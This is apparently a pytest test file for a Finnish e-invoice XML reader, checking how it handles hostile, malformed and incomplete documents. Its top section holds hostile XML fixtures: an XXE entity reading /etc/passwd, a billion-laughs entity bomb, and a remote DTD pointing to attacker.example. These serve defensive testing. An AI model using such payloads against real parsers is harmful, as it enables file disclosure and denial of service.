"""read_invoice on documents built to be bad: hostile XML, broken values, missing elements,
odd wrappings. Every case comes back as findings naming the file and element; nothing raises."""

from __future__ import annotations

from pathlib import Path

import pytest
from lxml import etree

from finrpa.domain.findings import Severity
from finrpa.steps import invoices
from finrpa.steps.invoice_model import InvoiceFormat, InvoiceType
from finrpa.steps.invoice_samples import sample_invoice
from finrpa.steps.invoice_writers import write_finvoice, write_ubl
from finrpa.steps.invoices import detect_format, read_invoice, read_invoice_bytes

HETU = "131052-308T"  # the example HETU of the Finnish authorities' documentation


def _finvoice() -> bytes:
    return write_finvoice(sample_invoice(7))


def _ubl() -> bytes:
    return write_ubl(sample_invoice(7))


def _replace(content: bytes, old: str, new: str) -> bytes:
    assert old.encode() in content, old
    return content.replace(old.encode(), new.encode(), 1)


# --- Hostile XML -------------------------------------------------------------------------------

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE Finvoice [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Finvoice Version="3.0"><InvoiceDetails><InvoiceNumber>&xxe;</InvoiceNumber></InvoiceDetails>
</Finvoice>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2">&lol3;</Invoice>"""

REMOTE_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE Finvoice SYSTEM "http://attacker.example/finvoice.dtd">
<Finvoice Version="3.0"/>"""

DTD_WITH_SUBSET = b"""<?xml version="1.0"?>
<!DOCTYPE Finvoice SYSTEM "Finvoice.dtd" [<!ENTITY x SYSTEM "file:///etc/hostname">]>
<Finvoice Version="3.0"/>"""


@pytest.mark.parametrize(
    "content",
    [
        XXE,
        BILLION_LAUGHS,
        REMOTE_DTD,
        DTD_WITH_SUBSET,
        XXE.replace(b'"1.0"', b'"1.0" encoding="UTF-16"').decode().encode("utf-16"),
    ],
    ids=["xxe", "billion-laughs", "remote-dtd", "dtd-internal-subset", "xxe-utf-16"],
)
def test_dtds_are_refused(content: bytes) -> None:
    result = read_invoice_bytes(content, "inbox/hostile.xml")
    assert result.invoice is None
    (finding,) = result.findings
    assert finding.code == "XML_DTD_FORBIDDEN"
    assert finding.source == "inbox/hostile.xml"
    assert "DTD" in finding.message


def test_a_bare_external_finvoice_dtd_is_ignored_not_loaded(tmp_path: Path) -> None:
    content = _replace(
        _finvoice(), "<Finvoice ", '<!DOCTYPE Finvoice SYSTEM "Finvoice.dtd">\n<Finvoice '
    )
    result = read_invoice_bytes(content, "old.xml")
    assert result.invoice is not None
    assert [(f.code, f.severity) for f in result.findings] == [
        ("XML_DTD_IGNORED", Severity.WARNING)
    ]


def test_malformed_xml_names_file_and_line() -> None:
    content = _replace(_finvoice(), "</InvoiceNumber>", "</Invoicenumber>")
    result = read_invoice_bytes(content, "broken.xml")
    assert result.invoice is None
    (finding,) = result.findings
    assert (finding.code, finding.source) == ("XML_MALFORMED", "broken.xml")
    line = next(n for n, text in enumerate(content.splitlines(), 1) if b"Invoicenumber" in text)
    assert finding.location == f"line {line}"


@pytest.mark.parametrize("content", [b"", b"   ", b"not xml at all", b"\x00\x01\x02"])
def test_garbage_is_malformed(content: bytes) -> None:
    result = read_invoice_bytes(content, "garbage.bin")
    assert result.invoice is None
    assert [f.code for f in result.findings] == ["XML_MALFORMED"]


def test_unknown_root_is_named() -> None:
    result = read_invoice_bytes(b"<Order xmlns='urn:example:order'/>", "order.xml")
    assert result.invoice is None
    (finding,) = result.findings
    assert (finding.code, finding.location) == ("UNKNOWN_FORMAT", "Order")
    assert "urn:example:order" in finding.message


def test_missing_and_oversized_files(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    missing = read_invoice(tmp_path / "nope.xml")
    assert [f.code for f in missing.findings] == ["FILE_UNREADABLE"]
    assert missing.findings[0].source == str(tmp_path / "nope.xml")
    big = tmp_path / "big.xml"
    big.write_bytes(_finvoice())
    monkeypatch.setattr(invoices, "DEFAULT_MAX_BYTES", 100)
    assert [f.code for f in read_invoice(big).findings] == ["XML_TOO_LARGE"]


def test_a_reader_bug_becomes_a_finding(monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(root: etree._Element, source: str) -> invoices.InvoiceReadResult:
        raise KeyError(f"buyer {HETU}")

    monkeypatch.setitem(invoices._READERS, InvoiceFormat.FINVOICE, broken)
    result = read_invoice_bytes(_finvoice(), "x.xml")
    assert result.invoice is None
    (finding,) = result.findings
    assert finding.code == "READ_FAILED" and "KeyError" in finding.message
    assert HETU not in finding.message


# --- Bad values ------------------------------------------------------------------------------


def test_non_numeric_total_is_a_finding_and_no_invoice() -> None:
    content = _replace(
        _finvoice(),
        'InvoiceTotalVatIncludedAmount AmountCurrencyIdentifier="EUR">',
        'InvoiceTotalVatIncludedAmount AmountCurrencyIdentifier="EUR">12,3x',
    )
    result = read_invoice_bytes(content, "amount.xml")
    assert result.invoice is None
    (finding,) = result.findings
    assert finding.code == "INVALID_AMOUNT"
    assert finding.location == "InvoiceDetails/InvoiceTotalVatIncludedAmount"
    assert finding.source == "amount.xml"


def test_non_numeric_row_amount_keeps_the_invoice() -> None:
    invoice = sample_invoice(7)
    second_net = invoice.lines[1].net_amount
    content = _replace(
        write_finvoice(invoice),
        f'<RowVatExcludedAmount AmountCurrencyIdentifier="EUR">{second_net}'.replace(".", ","),
        '<RowVatExcludedAmount AmountCurrencyIdentifier="EUR">NaN',
    )
    result = read_invoice_bytes(content, "row.xml")
    assert result.invoice is not None and not result.ok
    assert result.invoice.lines[1].net_amount is None
    assert [(f.code, f.location, f.value) for f in result.findings] == [
        ("INVALID_AMOUNT", "InvoiceRow[2]/RowVatExcludedAmount", "NaN")
    ]


def test_ubl_bad_date_and_amount_name_their_elements() -> None:
    invoice = sample_invoice(7)
    content = _replace(_ubl(), f"<cbc:DueDate>{invoice.due_date}", "<cbc:DueDate>2024-02-30")
    content = _replace(
        content, '<cbc:PriceAmount currencyID="EUR">', '<cbc:PriceAmount currencyID="EUR">x'
    )
    result = read_invoice_bytes(content, "ubl.xml")
    assert result.invoice is not None and result.invoice.due_date is None
    assert sorted((f.code, f.location) for f in result.findings) == [
        ("INVALID_AMOUNT", "cac:InvoiceLine[1]/cac:Price/cbc:PriceAmount"),
        ("INVALID_DATE", "cbc:DueDate"),
    ]


def test_ubl_missing_invoice_number() -> None:
    invoice = sample_invoice(7)
    content = _replace(_ubl(), f"<cbc:ID>{invoice.invoice_number}</cbc:ID>", "")
    result = read_invoice_bytes(content, "ubl.xml")
    assert result.invoice is None
    assert [(f.code, f.location) for f in result.findings] == [("MISSING_ELEMENT", "cbc:ID")]


def test_finvoice_missing_seller_name_and_invalid_invoice_date() -> None:
    content = _replace(
        _finvoice(), "<SellerOrganisationName>Esimerkkitoimittaja Oy", "<SellerOrganisationName>"
    )
    date_text = sample_invoice(7).invoice_date.strftime("%Y%m%d")
    content = _replace(
        content,
        f'<InvoiceDate Format="CCYYMMDD">{date_text}',
        '<InvoiceDate Format="CCYYMMDD">2024-1-1',
    )
    result = read_invoice_bytes(content, "f.xml")
    assert result.invoice is None
    assert [(f.code, f.location) for f in result.findings] == [
        ("MISSING_ELEMENT", "SellerPartyDetails/SellerOrganisationName"),
        ("INVALID_DATE", "InvoiceDetails/InvoiceDate"),
    ]


def test_personal_identity_codes_are_masked_in_findings() -> None:
    content = _replace(
        _finvoice(),
        'InvoiceTotalVatIncludedAmount AmountCurrencyIdentifier="EUR">',
        f'InvoiceTotalVatIncludedAmount AmountCurrencyIdentifier="EUR">{HETU} ',
    )
    (finding,) = read_invoice_bytes(content, "sole-trader.xml").findings
    assert finding.code == "INVALID_AMOUNT"
    assert HETU not in finding.message and HETU not in (finding.value or "")
    assert "******-****" in (finding.value or "")


def test_invalid_model_values_become_findings() -> None:
    content = _replace(
        _finvoice(),
        'InvoiceTotalVatIncludedAmount AmountCurrencyIdentifier="EUR">',
        'InvoiceTotalVatIncludedAmount AmountCurrencyIdentifier="EURO">',
    )
    result = read_invoice_bytes(content, "currency.xml")
    assert result.invoice is None
    assert [f.code for f in result.findings] == ["INVALID_VALUE"]
    assert "currency" in result.findings[0].message


# --- Format detection and wrappings ----------------------------------------------------------


@pytest.mark.parametrize("file_name", ["invoice.ubl.xml", "finvoice.xml", "lasku", "x.txt"])
def test_format_comes_from_content_not_name(tmp_path: Path, file_name: str) -> None:
    for content, expected in ((_finvoice(), InvoiceFormat.FINVOICE), (_ubl(), InvoiceFormat.UBL)):
        path = tmp_path / file_name
        path.write_bytes(content)
        invoice = read_invoice(path).invoice
        assert invoice is not None
        assert invoice.source.format is expected
        assert invoice.source.file == str(path)


def test_detect_format_and_version() -> None:
    finvoice = etree.fromstring(_finvoice())
    ubl = etree.fromstring(_ubl())
    assert detect_format(finvoice) == (InvoiceFormat.FINVOICE, "3.0")
    assert detect_format(ubl) == (InvoiceFormat.UBL, "peppol-bis-3")
    assert detect_format(etree.fromstring(b"<Invoice/>")) is None  # no UBL namespace
    teapps = etree.fromstring(
        b"<INVOICE_CENTER><CONTENT_FRAME><BLOCK_RULES><FORMAT_VERSION>3.0</FORMAT_VERSION>"
        b"</BLOCK_RULES></CONTENT_FRAME></INVOICE_CENTER>"
    )
    assert detect_format(teapps) == (InvoiceFormat.TEAPPSXML, "3.0")


SOAP_HEAD = b"""<SOAP-ENV:Envelope xmlns:SOAP-ENV="http://schemas.xmlsoap.org/soap/envelope/">
  <SOAP-ENV:Header/>
  <SOAP-ENV:Body/>
</SOAP-ENV:Envelope>
"""


def test_finvoice_after_a_soap_frame() -> None:
    result = read_invoice_bytes(SOAP_HEAD + _finvoice(), "framed.xml")
    assert result.ok and result.invoice is not None
    assert result.invoice.invoice_number == sample_invoice(7).invoice_number


def test_parse_error_after_a_soap_frame_counts_lines_from_the_file_start() -> None:
    content = SOAP_HEAD + _replace(_finvoice(), "</InvoiceNumber>", "</Invoicenumber>")
    (finding,) = read_invoice_bytes(content, "framed.xml").findings
    line = next(n for n, text in enumerate(content.splitlines(), 1) if b"Invoicenumber" in text)
    assert (finding.code, finding.location) == ("XML_MALFORMED", f"line {line}")


def test_finvoice_inside_a_soap_body() -> None:
    body = etree.tostring(etree.fromstring(_finvoice()), encoding="unicode").encode()
    content = SOAP_HEAD.replace(
        b"<SOAP-ENV:Body/>", b"<SOAP-ENV:Body>" + body + b"</SOAP-ENV:Body>"
    )
    result = read_invoice_bytes(content, "in-body.xml")
    assert result.invoice is not None
    assert result.invoice.source.format is InvoiceFormat.FINVOICE
    due = sample_invoice(7).due_date
    assert due is not None
    bad_date = _replace(
        content,
        f'Format="CCYYMMDD">{due:%Y%m%d}</InvoiceDueDate>',
        'Format="CCYYMMDD">20241301</InvoiceDueDate>',
    )
    (finding,) = read_invoice_bytes(bad_date, "in-body.xml").findings
    assert finding.location == "InvoiceDetails/PaymentTermsDetails/InvoiceDueDate"


def test_finvoice_credit_note_type() -> None:
    content = write_finvoice(sample_invoice(7, credit_note=True))
    invoice = read_invoice_bytes(content, "credit.xml").invoice
    assert invoice is not None
    assert (invoice.invoice_type, invoice.type_code) == (InvoiceType.CREDIT_NOTE, "INV02")


def test_teappsxml_with_two_invoices_is_flagged(corpus_dir: Path) -> None:
    content = (corpus_dir / "finvoice/anon_teapps_30_invoice.xml").read_bytes()
    start, end = content.index(b"<INVOICE>"), content.index(b"</INVOICE>") + len(b"</INVOICE>")
    doubled = content[:end] + content[start:end] + content[end:]
    result = read_invoice_bytes(doubled, "two.xml")
    assert result.invoice is not None and result.invoice.invoice_number == "321123"
    assert [(f.code, f.location) for f in result.findings] == [
        ("MULTIPLE_INVOICES", "CONTENT_FRAME/INVOICES/INVOICE")
    ]


def test_teappsxml_negative_total_is_a_credit_note(corpus_dir: Path) -> None:
    content = (corpus_dir / "finvoice/anon_teapps_272_invoice.xml").read_bytes()
    content = _replace(
        content, '<AMOUNT SIGN="+" VAT="INCLUDED">104.45', '<AMOUNT SIGN="-" VAT="INCLUDED">104.45'
    )
    invoice = read_invoice_bytes(content, "hyvitys.xml").invoice
    assert invoice is not None
    assert invoice.invoice_type is InvoiceType.CREDIT_NOTE
    assert str(invoice.totals.gross) == "-104.45"


def test_an_empty_invoice_date_is_missing() -> None:
    date_text = sample_invoice(7).invoice_date.strftime("%Y%m%d")
    content = _replace(
        _finvoice(),
        f'<InvoiceDate Format="CCYYMMDD">{date_text}</InvoiceDate>',
        '<InvoiceDate Format="CCYYMMDD"/>',
    )
    result = read_invoice_bytes(content, "f.xml")
    assert result.invoice is None
    assert [(f.code, f.location) for f in result.findings] == [
        ("MISSING_ELEMENT", "InvoiceDetails/InvoiceDate")
    ]


def test_an_empty_invoice_due_date_falls_back_to_the_epi_date() -> None:
    due = sample_invoice(7).due_date
    assert due is not None
    content = _replace(
        _finvoice(),
        f'<InvoiceDueDate Format="CCYYMMDD">{due.strftime("%Y%m%d")}</InvoiceDueDate>',
        "<InvoiceDueDate/>",
    )
    result = read_invoice_bytes(content, "f.xml")
    assert result.ok and result.invoice is not None
    assert result.invoice.due_date == due


def _teapps(corpus_dir: Path) -> bytes:
    return (corpus_dir / "finvoice/anon_teapps_30_invoice.xml").read_bytes()


def test_teappsxml_missing_invoice_date(corpus_dir: Path) -> None:
    content = _teapps(corpus_dir)
    start = content.index(b"<INVOICE_DATE>")
    end = content.index(b"</INVOICE_DATE>") + len(b"</INVOICE_DATE>")
    result = read_invoice_bytes(content[:start] + b"<INVOICE_DATE/>" + content[end:], "t.xml")
    assert result.invoice is None
    assert [(f.code, f.location) for f in result.findings] == [
        ("MISSING_ELEMENT", "CONTENT_FRAME/INVOICES/INVOICE/HEADER/INVOICE_DATE/DATE")
    ]


def test_teappsxml_missing_currency_is_assumed_with_a_warning(corpus_dir: Path) -> None:
    result = read_invoice_bytes(_replace(_teapps(corpus_dir), "<CODE>EUR</CODE>", ""), "t.xml")
    assert result.ok and result.invoice is not None and result.invoice.currency == "EUR"
    assert [(f.code, f.severity) for f in result.findings] == [
        ("CURRENCY_ASSUMED", Severity.WARNING)
    ]
